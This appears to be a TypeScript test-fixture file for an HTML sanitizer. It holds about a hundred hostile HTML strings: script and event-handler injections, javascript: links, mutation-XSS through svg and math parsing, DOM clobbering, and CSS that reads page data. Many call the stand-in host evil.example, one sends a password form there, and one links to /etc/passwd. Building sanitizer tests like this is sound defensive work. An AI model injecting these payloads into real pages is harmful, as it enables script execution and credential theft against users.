/**
 * Ways to make a page that shows somebody's words run their script, fetch from elsewhere, or look like another: in the
 * manner of the fixtures of HTML sanitizers. What gets through calls `alert`, asks `evil.example`, or leaves an element
 * that no message has.
 */
export const hostileHtml: Readonly<Record<string, string>> = {
  // Elements that run or fetch by themselves.
  script: '<script>alert(1)</script>',
  'script from elsewhere': '<script src=https://evil.example/a.js></script>',
  'script in capitals, unclosed': '<SCRIPT SRC=//evil.example/a.js <B>',
  'script as a module': '<script type=module>import("https://evil.example/a.js")</script>',
  'image that fails': '<img src=x onerror=alert(1)>',
  'image that follows its reader': '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  'set of images': '<img srcset="https://evil.example/a 1x, x 2x" onerror="alert(1)">',
  'picture and source': '<picture><source srcset="https://evil.example/a"><img onerror=alert(1) src=x></picture>',
  'frame of script': '<iframe src="javascript:alert(1)"></iframe>',
  'frame of a document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'frame of a document, escaped': '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
  object: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  embed: '<embed src="https://evil.example/a.swf" allowscriptaccess=always>',
  'video and its poster': '<video poster=https://evil.example/a onloadstart=alert(1)><source onerror=alert(1)></video>',
  audio: '<audio src=x onerror=alert(1) autoplay></audio>',
  'style sheet': '<link rel=stylesheet href=https://evil.example/a.css>',
  preload: '<link rel=preload as=script href=https://evil.example/a.js onload=alert(1)>',
  'style with imports':
    '<style>@import "https://evil.example/a.css"; * { background: url(https://evil.example/b) }</style>',
  'style that reads': '<style>input[value^="a"] { background: url(https://evil.example/a) } p { color: red }</style>',
  base: '<base href="https://evil.example/"><a href="a">a</a>',
  refresh: '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'refresh to script': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',

  // Handlers of events.
  'body with a handler': '<body onload=alert(1)><p>a</p></body>',
  'details that open': '<details open ontoggle=alert(1)>a</details>',
  'input that takes the focus': '<input autofocus onfocus=alert(1)>',
  'editable that takes the focus': '<p contenteditable autofocus onfocus=alert(1) tabindex=0>a</p>',
  marquee: '<marquee onstart=alert(1)>a</marquee>',
  'animation that ends': '<p style="animation: a 1ms" onanimationend=alert(1)>a</p>',
  'slash for a space': '<img/src=x/onerror=alert(1)>',
  'line ends for spaces': '<img\nsrc=x\nonerror\n=\nalert(1)\n>',
  'form feeds and tabs': '<img\u000csrc=x\u000conerror\t=alert(1)>',
  'backquotes for quotes': '<img src=`x`onerror=alert(1)>',
  'quotes in quotes': '<img alt="\'"><img title=\'" onerror=alert(1) src=x>\'',
  'handler behind a quote': 'a" onmouseover="alert(1)" b="',
  'handler behind a single quote': "a' onmouseover='alert(1)' b='",
  'popover and its button': '<button popovertarget=a>a</button><p popover id=a onbeforetoggle=alert(1)>b</p>',

  // Addresses that are script.
  'link to script': '<a href="javascript:alert(1)">a</a>',
  'link to script, in mixed letters': '<a href="JaVaScRiPt:alert(1)">a</a>',
  'link to script, behind a control character': '<a href="\u0001javascript:alert(1)">a</a>',
  'link to script, with a tab in it': '<a href="java\tscript:alert(1)">a</a>',
  'link to script, with line ends in it': '<a href="jav&#10;ascr&#13;ipt:alert(1)">a</a>',
  'link to script, by entities': '<a href="&#106;&#x61;vascript&colon;alert&lpar;1&rpar;">a</a>',
  'link to script, as a comment to an address': '<a href="javascript://example.com/%0Aalert(1)">a</a>',
  'link to a document': '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  'link to VBScript': '<a href="vbscript:msgbox(1)">a</a>',
  'link to a file': '<a href="file:///etc/passwd">a</a>',
  'link with no scheme': '<a href="//evil.example">a</a>',
  'link that opens as ours':
    '<a href="https://evil.example" target=_top rel=opener ping=https://evil.example/ping>a</a>',
  'link with a name of a download': '<a href="https://evil.example/a" download="invoice.exe">a</a>',
  'map of links': '<img usemap=#a src=x><map name=a><area href="javascript:alert(1)" shape=default></map>',
  'form of script': '<form action="javascript:alert(1)"><button>a</button></form>',
  'form to elsewhere':
    '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
  'button with an action of its own': '<form id=a></form><button form=a formaction="javascript:alert(1)">a</button>',
  'words of one address, link to another': '<a href="https://evil.example/">https://example.com/</a>',

  // Other namespaces, where the rules of parsing change.
  'svg with a handler': '<svg onload=alert(1)>',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with an escaped script': '<svg><script>&#97;lert(1)</script></svg>',
  'svg with an animated address':
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>a</text></a></svg>',
  'svg with set': '<svg><set onbegin=alert(1) attributeName=x to=1></svg>',
  'svg with use':
    '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#a"/></svg>',
  'svg with a foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></foreignObject></svg>',
  'svg with an image': '<svg><image href="https://evil.example/a.png"/></svg>',
  'math with a link': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
  'math with HTML in a comment':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'math, mtext and style': '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'svg, p and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'svg, title and style': '<svg><title><style><!--</title><img src=x onerror=alert(1)>--></style></svg>',
  'svg in a table': '<table><svg><desc><td><img src=x onerror=alert(1)>',
  'annotation with HTML':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'CDATA in svg': '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',

  // Text of one element that becomes the markup of another.
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>',
  template: '<template><img src=x onerror=alert(1)></template>',
  'template with a shadow': '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'text area': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  title: '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  xmp: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  noembed: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  listing: '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'comment for one browser': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><p>a</p>',
  'closing tags of a message': '</code></pre></p></li></ul></blockquote></div><script>alert(1)</script>',
  'nested and unclosed': '<<script>alert(1)//<</script>',
  'parts of a tag taken out': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'escaped once': '&lt;img src=x onerror=alert(1)&gt;',
  'escaped twice': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  'escaped without an end': '&ltimg src=x onerror=alert(1)&gt',

  // Names that take the place of the page's own.
  'clobbered document': '<img name=body><img name=querySelectorAll><form name=createElement></form>',
  'clobbered form': '<form><input name=attributes><input name=childNodes><input name=style><div>a</div></form>',
  'clobbered by fieldsets':
    '<form><fieldset name=style></fieldset><fieldset name=parentNode></fieldset><div>a</div></form>',
  'clobbered window': '<a id=root href="https://evil.example">a</a><a id=root name=config>b</a>',
  'frame with a name': '<iframe name=alert src=about:blank></iframe>',

  // Style that covers or reads the page.
  'style that covers': '<p style="position:fixed;inset:0;z-index:9999;background:white">Sign in again</p>',
  'style that fetches':
    '<p style="background:url(https://evil.example/a);list-style-image:url(https://evil.example/b)">a</p>',
  'style with an expression': '<p style="width:expression(alert(1));-moz-binding:url(https://evil.example/a#b)">a</p>',
  'style behind a quote': '<p style="font-family:\'\';}*{background:url(https://evil.example/a)}">a</p>',
  'classes of the page': '<div class="fixed inset-0 z-50 bg-ground">Sign in again</div>',
  'element of the page': '<dialog open role=alertdialog aria-label="Sign in">a</dialog><x-y is=z slot=a>b</x-y>',

  // Characters that are not what they seem.
  'a NUL in a tag': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'full-width brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'long S for s': '<\u017fcript>alert(1)</\u017fcript>',
  'written from right to left': '\u202e<gpj.exe>\u202c \u2067https://evil.example\u2069',
  'half of a pair': 'a\ud83d<img src=x onerror=alert(1)>\udc00',
  'line separators': 'a\u2028<img src=x onerror=alert(1)>\u2029b',
  'keys of objects': `__proto__ constructor toString {{constructor.constructor("alert(1)")()}} \${alert(1)} #{alert(1)}`,
  'very deep': `${'<b><i><u>'.repeat(150)}<img src=x onerror=alert(1)>`,
  'very many attributes': `<p ${Array.from({ length: 100 }, (_, index) => `on${index}=alert(1)`).join(' ')} onclick=alert(1)>a</p>`,
};
